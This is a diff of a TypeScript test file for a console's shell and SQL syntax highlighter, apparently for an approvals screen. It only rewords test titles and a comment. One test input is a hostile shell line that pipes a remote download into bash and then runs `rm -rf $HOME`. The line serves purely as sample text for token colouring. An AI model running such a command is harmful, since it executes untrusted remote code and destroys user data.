@@ -1,4 +1,4 @@
-/** Colours of commands and queries: for the eye alone. */
+/** Syntax colours of commands and queries, which affect only the display. */
 import * as fc from 'fast-check';
 import { type Language, partsOf } from '../../../console/approvals/highlight.ts';
 import { changedPart } from '../../../console/tools/changed-part.ts';
@@ -6,7 +6,7 @@ import { changedPart } from '../../../console/tools/changed-part.ts';
 const told = (text: string, language: Language = 'shell') =>
   partsOf(text, language).flatMap(({ text, kind }) => (kind ? [`${kind} ${text}`] : []));
 
-test('[console.highlight] the parts together are the text, whatever it is', () => {
+test('[console.highlight] the parts together are the original text, whatever it contains', () => {
   const language = fc.constantFrom<Language>('shell', 'sql');
   const texts = fc.oneof(fc.string(), fc.string({ unit: fc.constantFrom(...`'"\\$#|&;-/* \n{}ab=`) }));
   fc.assert(
@@ -20,11 +20,11 @@ test('[console.highlight] the parts together are the text, whatever it is', () =
   );
 });
 
-test('[console.highlight] a long text takes no time: it is plain', () => {
+test('[console.highlight] long text takes no time, because it stays plain', () => {
   expect(partsOf("'".repeat(100_000), 'shell')).toHaveLength(1);
 });
 
-test('[console.highlight] programs, options, texts, variables and operators of a shell line', () => {
+test('[console.highlight] programs, options, strings, variables and operators of a shell line', () => {
   expect(told(`A=1 curl -fsS "https://x.example" | bash && rm -rf $HOME # gone`)).toEqual([
     ...['program curl', 'option -fsS', 'text "https://x.example"', 'operator |', 'program bash', 'operator &&'],
     ...['program rm', 'option -rf', 'variable $HOME', 'comment # gone'],
@@ -38,7 +38,7 @@ test('[console.highlight] words of a query', () => {
   ]);
 });
 
-test('[console.tools] the part of a text that has changed is marked in whole words', () => {
+test('[console.tools] the changed part of a text is marked in whole words', () => {
   const marked = (before: string, after: string) => {
     const { start, end } = changedPart(before, after);
     return [before.slice(start, before.length - end), after.slice(start, after.length - end)];
